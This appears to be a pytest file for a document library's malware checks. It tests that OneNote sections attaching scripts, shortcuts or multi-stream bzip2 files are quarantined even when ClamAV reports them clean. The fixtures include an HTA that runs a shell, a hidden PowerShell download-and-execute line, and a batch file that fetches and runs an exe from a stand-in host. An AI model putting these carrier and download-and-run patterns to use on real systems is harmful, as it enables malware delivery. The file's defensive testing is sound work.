"""Round 33: files attached to a OneNote section (``resources/evidence/onenote.py``), a known malware carrier.

clamd answered OK for a ``.one`` attaching a ``.hta``, a batch file, a shortcut or a bzip2 file with a second
stream (checked first, for each case, against the tests' real clamd), and the library stored it as a plain binary
file. The sections here are built as OneNote writes the parts that matter: the format GUID first, each attached
file in a ``FileDataStoreObject`` (MS-ONESTORE 2.6.13), its name a length-prefixed UTF-16 property."""

from __future__ import annotations

import bz2
import struct
import uuid

import pytest

from resources.evidence.containers import problem
from resources.evidence.onenote import MAX_ENDINGS
from tests.evidence.clamav import EICAR
from tests.evidence.files import make_pdf, make_png
from tests.evidence.library import make_library
from tests.test_round32_evidence_carriers import eml, zipped

SECTION = uuid.UUID("{7B5C52E4-D88C-4DA7-AEB1-5378D02996D3}").bytes_le
STORE = uuid.UUID("{BDE316E7-2665-4511-A4C4-8D4D0B7A9EAC}").bytes_le
FOOTER = uuid.UUID("{71FBA722-0F79-4A0B-BB13-899256426B24}").bytes_le


def section(files: dict[str, bytes], text: str = "Access review Q3") -> bytes:
    """A .one section: header, page text (UTF-16), each file in a FileDataStoreObject, then its name property."""
    out = SECTION + uuid.UUID(int=7).bytes_le * 2 + b"\0" * (1024 - 48) + text.encode("utf-16-le")
    for data in files.values():
        out += STORE + struct.pack("<QIQ", len(data), 0, 0) + data + b"\0" * (-len(data) % 8) + FOOTER
    for name in files:
        out += struct.pack("<I", 0x1C001D9C) + struct.pack("<I", len(name) * 2) + name.encode("utf-16-le")
    return out + b"\0" * 64


HTA = b'<html><head><HTA:APPLICATION ID="v"><script language="VBScript">CreateObject("WScript.Shell").Run "x"' \
      b"</script></head></html>"
LNK = b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F" + b"\0" * 60
PS1 = "\ufeffpowershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('x')\"".encode("utf-16-le")
HIDDEN = {
    "hta-named": (section({"Open to view invoice.hta": HTA}), "with 'Open to view invoice.hta' attached"),
    "bat-named": (section({"scan.bat": b"start x"}), "with 'scan.bat' attached"),
    "cmd-unnamed-content": (section({"notes.txt": b"@echo off\r\ncurl -o a.exe http://x/a\r\na.exe\r\n"}),
                            "is a script or a Windows shortcut"),
    "lnk-content": (section({"view.pdf": LNK}), "is a script or a Windows shortcut"),
    "ps1-utf16-content": (section({"readme.txt": PS1}), "is a script or a Windows shortcut"),
    "bzip2-streams": (section({"logs.bz2": bz2.compress(b"notes") + bz2.compress(EICAR)}),
                      "holds more than one bzip2 stream"),
    "one-in-a-zip": (zipped({"Q3.one": section({"a.vbs": b"MsgBox 1"})}), "'Q3.one' in the file is a OneNote"),
    "one-attached-to-mail": (eml({"Q3.one": section({"a.hta": HTA})}), "'Q3.one' in the file is a OneNote"),
}


@pytest.mark.parametrize("name", list(HIDDEN))
def test_what_a_onenote_section_attaches_is_checked(tmp_path, clamd, name):
    content, said = HIDDEN[name]
    assert clamd.scan(content).clean  # the scanner's blind spot, for real
    lib = make_library(tmp_path, clamd)
    out = lib.ingest(content, "Q3.one", "sharepoint")
    assert out.status == "quarantined", (out.status, out.reason)
    assert said in out.reason, out.reason
    assert list(lib.store.list()) == []


def test_eicar_attached_is_still_clamds_verdict(tmp_path, clamd):
    out = make_library(tmp_path, clamd).ingest(section({"e.txt": EICAR}), "e.one", "sharepoint")
    assert out.status == "quarantined" and out.reason.startswith("ClamAV found"), out.reason


def test_ordinary_sections_are_stored(tmp_path, clamd):
    cases = {
        "report.one": section({"report.pdf": make_pdf(["Access review Q3"]), "shot.png": make_png(40, 20)}),
        "text.one": section({}, "Run setup.exe from the share, then open config.js"),  # page text, not a file
        "csv.one": section({"users.csv": b"user,role\nann,admin\n", "policy.json": b'{"a": "b"}'}),
    }
    lib = make_library(tmp_path, clamd)
    for name, content in cases.items():
        out = lib.ingest(content, name, "sharepoint")
        assert out.status == "stored", (name, out.reason)
        assert problem(content, 1 << 30) is None


def test_a_lying_length_reads_on_and_finds_the_next_file():
    hidden = section({"a.txt": b"ok", "b.txt": b"@echo off\r\nstart x\r\n"})
    lying = hidden.replace(STORE + struct.pack("<Q", 2), STORE + struct.pack("<Q", 1 << 40), 1)
    found = problem(lying, 1 << 30)
    assert found is not None and "is a script or a Windows shortcut" in found.reason, found


def test_a_section_attaching_several_office_files_is_stored(tmp_path, clamd):
    """Each attached file is walked whole (as OLE2's embedded files are): two .docx in one section had been
    refused as "a zip archive holding data its directory does not list"."""
    docx = zipped({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>" * 50})
    content = section({"policy.docx": docx, "users.xlsx": docx, "shot.png": make_png(8, 8)})
    lib = make_library(tmp_path, clamd)
    for name, data in [("Q3.one", content), ("Q3.zip", zipped({"Q3.one": content}))]:
        out = lib.ingest(data, name, "sharepoint")
        assert out.status == "stored", (name, out.reason)


def test_a_zip_outside_the_attached_files_is_a_polyglot():
    docx = zipped({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"})
    for content in (section({"a.docx": docx}) + docx, section({"a.txt": b"x"})[:1100] + docx + section({})[1024:]):
        found = problem(content, 1 << 30)
        assert found is not None and "polyglot/embedded archive" in found.reason, found


def test_crafted_sections_cost_a_bounded_amount():
    """Tiny attached files past the member limit, and script endings past MAX_ENDINGS, are refused."""
    many = section({f"f{n}.txt": b"x" for n in range(60)})
    found = problem(many, 1 << 30, max_members=50)
    assert found is not None and "embeds more files than the library checks" in found.reason, found
    endings = section({"a.txt": b"x"}, ".exe" * (MAX_ENDINGS + 1))
    found = problem(endings, 1 << 30)
    assert found is not None and "more than 10000 files that end as scripts" in found.reason, found
